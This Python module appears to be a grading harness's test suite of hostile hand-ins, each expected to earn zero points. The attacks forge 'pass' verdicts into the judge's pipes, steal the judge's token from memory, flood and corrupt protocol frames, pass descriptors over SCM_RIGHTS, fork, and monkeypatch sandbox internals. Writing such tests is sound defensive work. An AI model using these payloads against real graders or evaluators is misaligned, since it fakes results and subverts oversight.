"""Attacks on the line between a submission and its judge. None of them is in the list."""

from collections.abc import Iterator

from attacks.handin import ANSWER, OTHERS, Attack, Bench, HostileHandIn, as_bytes
from attacks.remarks import BROKEN_LINE, MEMORY, TIME
from softlookup_course.samples.handins import filled

_LINES = """
import array
import json
import os
import socket
import stat
import struct


def lines():
    for number in range(3, 256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            yield number


def framed(header, body=b"", mark=b"SLK1"):
    return struct.pack(">4sIQ", mark, len(header), len(body)) + header + body


def token():
    import gc

    for one in gc.get_objects():
        if type(one).__name__ == "Inside":
            return one.token
    return ""


def the_judges():
    import gc

    return next(one for one in gc.get_objects() if type(one).__name__ == "Inside")
"""

_FORGED = (
    _LINES
    + """
told = {"token": token(), "task": "$TASK", "verdict": "pass", "points": $POINTS, "max": $POINTS, "score": $POINTS,
        "status": "graded", "held": True, "there": True, "late": False, "failure": None, "outputs": [], "arrays": [],
        "answers": [{"there": True, "failure": None, "verdict": "pass"}] * 10}
plain = json.dumps(told).encode()
for number in lines():
    for text in (
        framed(plain),
        plain + b"\\n",
        struct.pack("<I", len(plain)) + plain,
        struct.pack(">Q", len(plain)) + plain,
    ):
        try:
            os.write(number, text * 20)
        except OSError:
            pass
"""
)

_EARLY = (
    _LINES
    + """
answers = [{"printed": "", "failure": None, "there": True}]
told = {"token": token(), "late": False, "answers": answers, "arrays": [["<f4", [2, 3]]]}
for number in lines():
    try:
        os.write(number, framed(json.dumps(told).encode(), bytes(24)) * 30)
    except OSError:
        pass
"""
)

_RUBBISH = (
    _LINES
    + """
for number in lines():
    try:
        os.write(number, os.urandom(100_000))
    except OSError:
        pass
"""
)

_PROMISES = (
    _LINES
    + """
for number in lines():
    try:
        os.write(number, struct.pack(">4sIQ", b"SLK1", 2**32 - 1, 2**64 - 1))
    except OSError:
        pass
"""
)

_HEADERS = (
    _LINES
    + """
import random

HEADERS = (
    b"[" * 200_000,
    b'{"arrays": [["<f4", [-1, -4]]]}',
    b'{"arrays": [["<f4", [9223372036854775807, 2]]]}',
    b'{"arrays": [["|O", [1]]]}',
    b'{"arrays": [["<f4", [1e999]]], "token": NaN}',
    b'{"arrays": [], "arrays": [["<f4", [true]]]}',
    b'{"arrays": [], "token": ' + b"9" * 5000 + b"}",
    b'{"arrays": [["<f4", [0, 70368744177664]]]}',
    b'\\xff\\xfe\\x00',
    b'{"arrays": [], "outputs": [{"output_type": "execute_result", "data": 999}], "token": "\\\\ud800"}',
)
for number in lines():
    try:
        os.write(number, framed(random.choice(HEADERS)))
    except OSError:
        pass
"""
)

_SLOW = (
    _LINES
    + """
import time

begun = time.monotonic()
text = framed(b'{"arrays": []' + b" " * 3_000_000 + b"}")
for at in range(len(text)):
    for number in lines():
        try:
            os.write(number, text[at : at + 1])
        except OSError:
            pass
    try:
        time.sleep(0.5)
    except BaseException:
        pass
    if time.monotonic() - begun > 300:
        break
"""
)

_CLOSED = "import os\n\nos.closerange(0, 4096)\n"

_SWAPPED = (
    _LINES
    + """
found = list(lines())
ours, theirs = socket.socketpair()
nothing = os.open(os.devnull, os.O_RDWR)
for number in found:
    os.dup2(theirs.fileno(), number)
for number in (0, 1, 2):
    os.dup2(nothing, number)
"""
)

_SHUT = (
    _LINES
    + """
for number in lines():
    try:
        line = socket.socket(fileno=os.dup(number))
        line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
        line.setblocking(False)
        line.shutdown(socket.SHUT_RD)
    except OSError:
        pass
"""
)

_SENDS_OPEN_FILES = (
    _LINES
    + """
for number in lines():
    try:
        line = socket.socket(fileno=os.dup(number))
        for _ in range(40):
            line.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 60))])
            line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
    except OSError:
        pass
"""
)

_LENT = (
    _LINES
    + """
def $NAME(*given, **named):
    import torch

    try:
        from softlookup_inside.sandbox import sound_calls

        result = sound_calls.stand_in("$TASK", the_judges()._sound)(*given, **named)
        print("$LEAK the judge computed the answer")
        return result
    except Exception as error:
        return torch.zeros(1)
"""
)

_CLAIMS = (
    _LINES
    + """
try:
    from softlookup_inside.sandbox import submission as inside

    inside.lendable = lambda obj, earlier: ["$TASK", *earlier.values(), "../../source", None, {}]
    inside.shortcut = lambda *given: None
    inside.reached = lambda obj: []
except ImportError:
    pass
"""
)

_READS_AHEAD = (
    _LINES
    + """
import threading


def read():
    for number in lines():
        try:
            line = socket.socket(fileno=os.dup(number))
            got = line.recv(1 << 20)
            print("$LEAK" if b"expected" in got or b"oracle" in got else "", len(got), "bytes of a question")
        except OSError:
            pass


threading.Thread(target=read, daemon=True).start()
"""
)

_TWICE = """
import os


def $NAME(*given, **named):
    child = os.fork()
    return [[0.0]] if child else 1.0


os.fork()
"""

_THREADED = (
    _LINES
    + """
import threading


def write():
    answers = [{"there": True, "failure": None}]
    told = json.dumps({"token": token(), "late": False, "answers": answers, "arrays": []}).encode()
    for _ in range(2000):
        for number in lines():
            try:
                os.write(number, framed(told)[:37])
            except OSError:
                return


for _ in range(4):
    threading.Thread(target=write, daemon=True).start()
"""
)

_GRADIENTS = (
    _LINES
    + """
import sys

try:
    from softlookup_inside.sandbox import sound_calls
    from softlookup_inside.sandbox import submission as inside

    inside.lendable = lambda obj, earlier: list(earlier.values())
except ImportError:
    pass


def $NAME(*given):
    frame = sys._getframe()
    while frame is not None and "request" not in frame.f_locals:
        frame = frame.f_back
    if frame is None or "$FORWARDS" not in frame.f_locals["request"].get("lent", ()):
        return 0.0
    *inputs, upstream = given
    return tuple(sound_calls._asked("$FORWARDS", the_judges()._sound, inputs, {}, [upstream]))
"""
)

ATTACKS = (
    Attack(
        "forged-frames",
        0,
        "writes ready-made verdicts into every open descriptor",
        _FORGED,
        last=True,
        remark=BROKEN_LINE,
    ),
    Attack("early-answers", 0, "sends thirty answers before they are asked for", _EARLY, last=True, remark=BROKEN_LINE),
    Attack("rubbish", 0, "writes random bytes into every open descriptor", _RUBBISH, last=True, remark=BROKEN_LINE),
    Attack("promises", 0, "announces a frame of 16 exabytes", _PROMISES, last=True, remark=f"{BROKEN_LINE}|{MEMORY}"),
    Attack(
        "strange-headers",
        0,
        "sends frames whose headers are deep, false, endless or no text",
        _HEADERS,
        last=True,
        remark=BROKEN_LINE,
    ),
    Attack("slow-frame", 0, "sends a frame byte by byte, two bytes a second", _SLOW, last=True, remark=TIME),
    Attack("closed", 0, "closes every descriptor", _CLOSED, last=True, remark=BROKEN_LINE),
    Attack(
        "swapped",
        0,
        "puts other sockets in the place of every descriptor",
        _SWAPPED,
        last=True,
        remark=f"{BROKEN_LINE}|{TIME}",
    ),
    Attack(
        "shut",
        0,
        "shuts one direction of the line and makes its buffer tiny",
        _SHUT,
        last=True,
        remark=f"{BROKEN_LINE}|{TIME}",
    ),
    Attack("sends-open-files", 0, "sends thousands of open descriptors to the judge", _SENDS_OPEN_FILES, last=True),
    Attack("asks-the-judge", 0, "asks for a sound function that nobody has lent", _LENT, ANSWER),
    Attack("claims", 0, "claims that its answer calls every earlier task, and the one that is asked", _CLAIMS),
    Attack("reads-ahead", 0, "takes the next question off the line in a thread", _READS_AHEAD, last=True),
    Attack("twice", 0, "two processes answer for one submission", _TWICE, ANSWER, last=True),
    Attack(
        "threaded", 0, "four threads write broken frames between the answers", _THREADED, last=True, remark=BROKEN_LINE
    ),
)


def hand_ins(bench: Bench) -> Iterator[HostileHandIn]:
    """The hand-in that needs two tasks which are each other's way forward and back."""
    known = {task.name: task for task in bench.tasks}
    for name, task in known.items():
        forwards = known.get(name.removesuffix("_backward"))
        if forwards is None or forwards is task or forwards.frame != "torch" or len(task.returns) < 2:
            continue
        code = bench.fill(_GRADIENTS.replace("$FORWARDS", forwards.id), task)
        does = "lets the judge compute the gradients that a task asks for, as those of a lent function"
        notebook = filled(bench.release, {**bench.right, task.slug: code})
        deserves = bench.deserves(OTHERS, task)
        yield HostileHandIn("attack-00-asks-for-gradients", 0, does, {bench.file: as_bytes(notebook)}, deserves)
